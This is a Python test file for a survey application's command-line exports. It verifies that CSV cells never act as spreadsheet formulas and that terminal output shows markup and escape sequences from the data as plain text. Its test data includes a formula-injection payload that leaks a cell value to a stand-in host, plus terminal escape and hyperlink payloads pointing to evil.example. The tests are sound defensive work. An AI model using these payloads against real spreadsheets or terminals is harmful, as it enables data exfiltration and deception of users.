"""What analysts open is safe: CSV text cells are never formulas, terminal output never obeys
markup or escape sequences coming from the data."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.utils import timezone
from typer.testing import CliRunner

from barometre.apps.editions.models import Answer
from barometre.apps.portal import services
from barometre.apps.portal.models import Invitation
from barometre.cli.main import app
from tests.core.test_text import FORMULA_PAYLOADS
from tests.factories import make_authority
from tests.web.portal.conftest import _portal_settings, open_edition  # noqa: F401

pytestmark = pytest.mark.django_db
runner = CliRunner()


def test_the_analysts_csv_export_neutralises_formulas_in_text_answers() -> None:
    edition = open_edition()
    for i, payload in enumerate(FORMULA_PAYLOADS):
        a = make_authority(code=f"0700{i}")
        response = edition.responses.create(authority=a, status="submitted", submitted_at=timezone.now())
        Answer.objects.create(response=response, question_id="commentaire", value=payload)
        Answer.objects.create(response=response, question_id="nb_agents", value=-3 if i == 0 else 12)
    out = runner.invoke(app, ["responses", "export", "--edition", str(edition.year), "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    comments = [r["value"] for r in rows if r["question"] == "commentaire"]
    assert len(comments) == len(FORMULA_PAYLOADS)
    for cell in comments:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + '=HYPERLINK("http://x.example/?leak="&A1;"clic")' in comments
    numbers = [r["value"] for r in rows if r["question"] == "nb_agents"]
    assert "-3" in numbers  # numbers stay numbers
    check = runner.invoke(app, ["responses", "check", "--edition", str(edition.year), "--format", "json"])
    assert json.loads(check.stdout)["identical"] is True  # the export still reads back exactly


@pytest.mark.parametrize(
    ("label", "shown"),
    [
        ("[/oops]", "[/oops]"),
        ("[link=http://evil.example]cliquez[/link]", "[link=http://evil.example]cliquez[/link]"),
        ("[bold red]RSSI", "[bold red]RSSI"),
        ("x\x1b]8;;http://evil.example\x07y", "x\\x1b]8;;http://evil.example\\x07y"),
    ],
)
def test_invitations_list_shows_a_delegation_label_as_text(label: str, shown: str) -> None:
    edition = open_edition()
    a = make_authority(code="08001")
    services.invite(edition, a)
    main = Invitation.objects.get(response__authority=a, section="")
    services.delegate(main, "cyber", label)
    out = runner.invoke(app, ["invitations", "list", "--edition", str(edition.year)], env={"COLUMNS": "400"})
    assert out.exit_code == 0, out.output
    assert shown in out.stdout
    assert "\x1b" not in out.stdout and "\x07" not in out.stdout
    as_csv = runner.invoke(app, ["invitations", "list", "--edition", str(edition.year), "--format", "csv"])
    assert as_csv.exit_code == 0


def test_an_error_message_carrying_data_is_printed_as_text() -> None:
    out = runner.invoke(app, ["registry", "show", "[/oops]\x1b[2J"])
    assert out.exit_code == 2
    assert "MarkupError" not in out.output and "\x1b" not in out.output


def test_registry_search_and_show_print_names_and_the_typed_text_as_text() -> None:
    make_authority(code="09001", name="Saint-[/oops]-\x1b[31mRouge")
    out = runner.invoke(app, ["registry", "search", "[/oops]"], env={"COLUMNS": "300"})
    assert out.exit_code == 0, out.output
    assert "[/oops]" in out.stdout and "\x1b" not in out.stdout
    shown = runner.invoke(app, ["registry", "show", "09001"], env={"COLUMNS": "300"})
    assert shown.exit_code == 0, shown.output
    assert "Saint-[/oops]-\\x1b[31mRouge" in shown.stdout


def test_generated_tokens_are_written_verbatim_in_csv_even_when_they_start_with_a_dash(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from barometre.core import tokens

    real = tokens.new_token
    monkeypatch.setattr(tokens, "new_token", lambda key: _dash_token(real, key))
    edition = open_edition()
    make_authority(code="08101", name='=HYPERLINK("x")')
    out = runner.invoke(
        app, ["invitations", "create", "--edition", str(edition.year), "-a", "08101", "--format", "csv"]
    )
    assert out.exit_code == 0, out.output
    row = next(csv.DictReader(io.StringIO(out.stdout)))
    assert row["token"].startswith("-") and Invitation.objects.get(prefix=row["token"][:8])
    assert row["name"] == '\'=HYPERLINK("x")'


def _dash_token(real: object, key: bytes) -> object:
    from barometre.core import tokens

    new = real(key)  # type: ignore[operator]
    token = "-" + new.token[1:]
    return tokens.NewToken(token=token, prefix=token[: tokens.PREFIX_LENGTH], digest=tokens.hash_token(token, key))
